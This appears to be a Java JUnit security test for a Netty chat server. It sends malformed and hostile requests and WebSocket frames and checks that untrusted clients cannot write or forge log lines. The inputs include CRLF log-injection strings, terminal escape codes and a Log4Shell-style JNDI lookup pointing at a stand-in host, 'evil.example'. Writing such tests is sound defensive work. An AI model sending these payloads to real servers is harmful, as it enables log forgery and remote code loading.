package io.nettychat.server.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.nettychat.server.ChatServer;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.parallel.Isolated;
import org.slf4j.LoggerFactory;

/** At the level at which servers run, nothing that a stranger sends writes a line: there is none to forge or to flood. */
@Timeout(60)
@Isolated("it listens to the log of all")
class QuietLogTest {
    private final List<Logger> loggers = List.of(logger("io.nettychat"), logger("io.netty"));
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();

    private static Logger logger(String name) {
        return (Logger) LoggerFactory.getLogger(name);
    }

    @BeforeEach
    void listen() {
        lines.start();
        loggers.forEach(logger -> {
            logger.setLevel(Level.INFO);
            logger.addAppender(lines);
        });
    }

    @AfterEach
    void stop() {
        loggers.forEach(logger -> {
            logger.setLevel(null);
            logger.detachAppender(lines);
        });
    }

    @Test
    void strangersWriteNothing() throws IOException {
        try (ChatServer server = ChatServer.builder().port(0).loops(1).start()) {
            int port = server.port();
            lines.list.clear();
            for (String request : List.of(
                    "\u0016\u0003\u0001 no HTTP at all\r\n\r\n",
                    "GET /%0d%0aERROR%20forged HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET /\u001b[2J HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\nX: " + "x".repeat(9_000) + "\r\n\r\n",
                    "GET / HTTP/9.9\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil.example/x}\r\n\r\n",
                    Attacker.handshake("/chat", "Origin: https://evil.example\r\n"),
                    Attacker.handshake("/chat?room=%zz", ""),
                    Attacker.handshake("/chat?room=%0aforged", ""))) {
                try (Attacker attacker = new Attacker(port)) {
                    attacker.send(request).awaitEnd();
                }
            }
            for (String half : List.of(
                    "GET / HT",
                    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nab",
                    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab")) {
                try (Attacker attacker = new Attacker(port)) {
                    attacker.send(half).endOutput().awaitEnd();
                }
            }
            for (String frames :
                    List.of("\u00ff\u00ff", "\u0081\u0001a", "\u0081\u0081\0\0\0\0\u00ff", "\u0088\u0081\0\0\0\0a")) {
                try (Attacker attacker = Attacker.upgraded(port)) {
                    attacker.send(frames).awaitEnd();
                }
            }
            Attacker talker = Attacker.upgraded(port);
            talker.json("{'type':'hello','name':'a\\nERROR forged'}")
                    .json("{'type':'hello','name':'\\u001b[31mred'}")
                    .json("no JSON \u2028 at all")
                    .json("{'type':'\\nforged'}")
                    .json("{'type':'hello','name':'eve','token':'${jndi:ldap://evil.example/x}'}")
                    .json("{'type':'join','room':'log'}")
                    .json("{'type':'message','id':'1','room':'log','text':'line\\nERROR forged'}");
            talker.line("ERROR forged");
            talker.reset();
            await().until(() -> server.connections() == 0);
            assertThat(lines.list).isEmpty();
        }
        assertThat(lines.list)
                .as("what the server itself has to say is heard")
                .extracting(ILoggingEvent::getFormattedMessage)
                .containsExactly("Closed");
    }
}
